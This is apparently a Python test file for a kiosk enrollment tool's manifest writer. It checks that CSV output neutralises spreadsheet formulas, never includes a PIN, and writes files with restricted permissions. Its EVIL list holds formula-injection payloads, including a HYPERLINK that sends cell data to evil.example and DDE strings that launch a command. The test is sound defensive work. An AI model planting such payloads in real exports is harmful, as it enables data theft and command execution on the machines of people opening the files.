"""The shipping manifest: formula-safe CSV, JSON, fixed columns, never a PIN."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from kiosk.enroll.manifest import COLUMNS, ManifestRow, csv_safe, write_manifest

EVIL = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _row(serial: str, upn: str, **kw: str) -> ManifestRow:
    base = {
        "display_name": "YubiKey 5 NFC 12345678",
        "aaguid": "cb69481e-8ff7-4039-93ec-0a2729a154a8",
        "model": "YubiKey 5 NFC",
        "time": "2026-11-22T01:00:00Z",
        "status": "done",
    }
    base.update(kw)
    return ManifestRow(serial=serial, upn=upn, **base)


def test_formula_cells_are_neutralised_when_read_back(tmp_path: Path) -> None:
    rows = [_row(str(i), f"user{i}@contoso.com", display_name=evil) for i, evil in enumerate(EVIL)]
    csv_path, json_path = write_manifest(rows, tmp_path, "20261122T010000Z")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert tuple(read[0]) == COLUMNS
    names = [r[COLUMNS.index("display_name")] for r in read[1:]]
    for evil, cell in zip(EVIL, names, strict=True):
        assert cell == "'" + evil  # shown as text, never evaluated; content kept
    # JSON is not a spreadsheet: values stay exactly as they are.
    doc = json.loads(json_path.read_text())
    assert [r["display_name"] for r in doc["rows"]] == EVIL
    assert doc["count"] == len(EVIL) and doc["columns"] == list(COLUMNS)


def test_ordinary_cells_are_untouched() -> None:
    for value in ("alice@contoso.com", "12345678", "YubiKey 5 NFC", "", "a=b", "2026-11-22"):
        assert csv_safe(value) == value


def test_only_the_manifest_columns_are_written_never_a_pin(tmp_path: Path) -> None:
    row = {"serial": "1", "upn": "a@contoso.com", "status": "done", "pin": "58294713"}
    csv_path, json_path = write_manifest([row], tmp_path, "x")
    assert "58294713" not in csv_path.read_text(encoding="utf-8-sig")
    assert "58294713" not in json_path.read_text()
    assert json.loads(json_path.read_text())["rows"][0]["upn"] == "a@contoso.com"


def test_files_are_named_by_stamp_and_written_whole(tmp_path: Path) -> None:
    paths = write_manifest([_row("1", "a@contoso.com")], tmp_path / "m", "20261122T010000Z")
    assert [p.name for p in paths] == [
        "manifest-20261122T010000Z.csv",
        "manifest-20261122T010000Z.json",
    ]
    assert sorted(p.name for p in (tmp_path / "m").iterdir()) == sorted(p.name for p in paths)
    assert paths[0].stat().st_mode & 0o007 == 0
